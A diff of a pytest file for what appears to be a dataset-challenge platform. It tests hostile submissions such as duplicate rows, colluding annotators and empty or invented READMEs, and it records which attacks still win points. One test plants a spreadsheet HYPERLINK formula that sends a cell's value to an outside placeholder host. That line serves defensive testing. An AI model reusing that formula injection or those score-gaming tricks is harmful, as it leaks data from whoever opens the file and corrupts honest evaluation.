@@ -20,21 +20,21 @@ import pytest
 import challenges
 from challenges import run
 from challenges.datasets import open_dataset
+from challenges.datasets.documentation import TELLING
 from challenges.datasets.items import Item
-from tests.hostile import dataset_attacks
-from tests.hostile.dataset_attacks import Attack, Started, Told
+from tests.hostile import dataset_arena, dataset_attacks, text_attacks
+from tests.hostile.dataset_arena import Started, Told
+from tests.hostile.dataset_attacks import Attack
 
 pytestmark = pytest.mark.hostile
 WINS: dict[str, str] = {
-    "easy-rows": "+5.83 points (-0.86 to +10.90): A8 rises from 32 to 60, for the surely right half of the labels weighs double; Q14 looks "
-    "for copies that differ in one column, and these differ in two moments",
-    "disguised-copies": "-1.78 points (-16.54 to +6.97), all by luck in A8: Q13 and Q14 compare cells as they are written, so 06:15:00 is "
-    "another moment than 06:15, and A4 rises from 82 to 99",
-    "shifted-copies": "-1.20 points (-16.75 to +5.90), all by luck in A8: Q14 does not see copies that differ in three columns",
+    "offset-copies": "+0.36 points (-13.68 to +7.73), by luck in A8 and A4: Q14 does not see copies that differ in four of ten columns, for what "
+    "is left (route, aircraft, delay) two flights may have in common",
+    "offset-easy-rows": "+3.65 points (-7.17 to +10.57): A8 rises from 32 to 51, for the surely right half of the labels weighs double, and Q14 "
+    "does not see that they are copies",
 }
 """Attacks that do win, or that the check meant for them does not see: by how much, and why."""
-STUFFED = "+6.83 points over no document, counted: 14 of 20 items are answered by the words of the questions with a word before them"
-NONSENSE = "+23.31 points over no document, counted: any twelve words with a number, an address and a licence among them are an answer"
+SPOKEN = "17 of 20 items are answered: what only words answer is answered by words that can be spoken, once one true number stands beside them"
 
 
 @pytest.fixture(scope="module")
@@ -82,7 +82,7 @@ def test_an_attack_on_a_table_gains_nothing(attack: Attack, records: Started) ->
 
 
 @pytest.mark.slow
-@pytest.mark.parametrize("attack", attacks(dataset_attacks.REVIEWS))
+@pytest.mark.parametrize("attack", attacks(text_attacks.REVIEWS))
 def test_an_attack_on_texts_gains_nothing(attack: Attack, reviews: Started) -> None:
     gains_nothing(attack, reviews)
 
@@ -197,14 +197,14 @@ def annotation(tmp_path_factory: pytest.TempPathFactory) -> Path:
 
 
 @pytest.mark.parametrize("team", [3, 5])
-@pytest.mark.parametrize("collusion", dataset_attacks.COLLUSIONS)
+@pytest.mark.parametrize("collusion", text_attacks.COLLUSIONS)
 def test_annotators_in_league_win_agreement_but_not_the_leading_score(
     collusion: str, team: int, annotation: Path
 ) -> None:
     given = pl.read_csv(dataset_attacks.SHIPPED / "review-annotation/public/annotators.csv")
     labels = given.filter(pl.col("annotator").is_in([f"a{place}" for place in range(1, team + 1)]))
     honest = annotated(annotation, labels)
-    league = annotated(annotation, dataset_attacks.COLLUSIONS[collusion](labels))
+    league = annotated(annotation, text_attacks.COLLUSIONS[collusion](labels))
     assert league["accuracy", "private"] <= honest["accuracy", "private"]
     assert league["accuracy", "public"] <= honest["accuracy", "public"]
     if collusion != "a hidden majority":
@@ -215,19 +215,54 @@ def test_annotators_in_league_win_agreement_but_not_the_leading_score(
 
 
 @pytest.mark.parametrize(
-    "says",
+    ("says", "without"),
     [
-        pytest.param(dataset_attacks.stuffed, marks=pytest.mark.xfail(strict=True, reason=STUFFED)),
-        pytest.param(dataset_attacks.nonsense, marks=pytest.mark.xfail(strict=True, reason=NONSENSE)),
+        pytest.param(dataset_attacks.stuffed, (), id="words of the questions"),
+        pytest.param(dataset_attacks.stuffed, TELLING, id="words of the questions, nothing of the data"),
+        pytest.param(dataset_attacks.nonsense, (), id="nonsense"),
+        pytest.param(dataset_attacks.nonsense, TELLING, id="nonsense, nothing of the data"),
+        pytest.param(dataset_attacks.generic, (), id="true of any data"),
+        pytest.param(dataset_attacks.generic, TELLING, id="true of any data, nothing of the data"),
+        pytest.param(dataset_attacks.spoken, (), id="invented words"),
+        pytest.param(dataset_attacks.spoken, TELLING, id="invented words, nothing of the data"),
     ],
-    ids=["words of the questions", "nonsense"],
-)
-def test_a_readme_that_says_nothing_answers_nothing(says: Callable[[Item], str], tmp_path: Path) -> None:
+)  # fmt: skip
+def test_a_readme_that_says_nothing_answers_nothing(
+    says: Callable[[Item], str], without: tuple[str, ...], tmp_path: Path
+) -> None:
     table = (dataset_attacks.SHIPPED / "flight-records/public/raw/records.csv").read_bytes()
     file = tmp_path / "stuffed.zip"
-    file.write_bytes(dataset_attacks.documented(table, says))
-    found = open_dataset(file).documentation
-    assert [answer.item.key for answer in found.answers if answer.state == "answered"] == []
+    file.write_bytes(dataset_attacks.documented(table, says, without=without))
+    assert answered(file) == []
+
+
+@pytest.mark.xfail(strict=True, reason=SPOKEN, raises=AssertionError)
+def test_one_true_number_does_not_make_invented_words_an_answer(tmp_path: Path) -> None:
+    """What cannot be told by machine, and is for the people who read the documentation of the best."""
+    raw = dataset_attacks.SHIPPED / "flight-records/public/raw/records.csv"
+    rows = f"{pl.scan_csv(raw).select(pl.len()).collect().item()} records"
+    file = tmp_path / "spoken.zip"
+    file.write_bytes(
+        dataset_attacks.documented(
+            raw.read_bytes(), lambda item: rows if item.key == "scale" else dataset_attacks.spoken(item)
+        )
+    )
+    assert answered(file) == ["scale"]
+
+
+def answered(file: Path) -> list[str]:
+    """The items of the documentation that are answered."""
+    return [answer.item.key for answer in open_dataset(file).documentation.answers if answer.state == "answered"]
+
+
+@pytest.mark.parametrize("other", ["shop-reviews", "fashion-labels", "low-flight-weather"])
+def test_the_readme_of_another_dataset_answers_nothing(other: str, tmp_path: Path) -> None:
+    """Whole, grammatical and honest, but of other data: nothing that can be looked up is so."""
+    readme = dataset_attacks.readme_of(other, tmp_path)
+    table = (dataset_attacks.SHIPPED / "flight-records/public/raw/records.csv").read_bytes()
+    file = tmp_path / "copied.zip"
+    file.write_bytes(dataset_attacks.with_readme(table, readme))
+    assert answered(file) == []
 
 
 @pytest.mark.slow
@@ -293,7 +328,7 @@ def test_a_formula_in_a_cell_is_only_text_to_who_opens_the_findings(records: Sta
     formula = '=HYPERLINK("https://example.org/?"&A1)'
     file = tmp_path / "records.csv"
     records.honest.with_columns(pl.lit(formula).alias("tail_number")).write_csv(file)
-    with dataset_attacks.without_suspects():
+    with dataset_arena.without_suspects():
         run.check(records.arena.prepared, file, tmp_path, filename=file.name)
     with gzip.open(tmp_path / run.LISTING, "rt", encoding="utf-8", newline="") as listing:
         cells = {cell for row in csv.reader(listing) for cell in row}
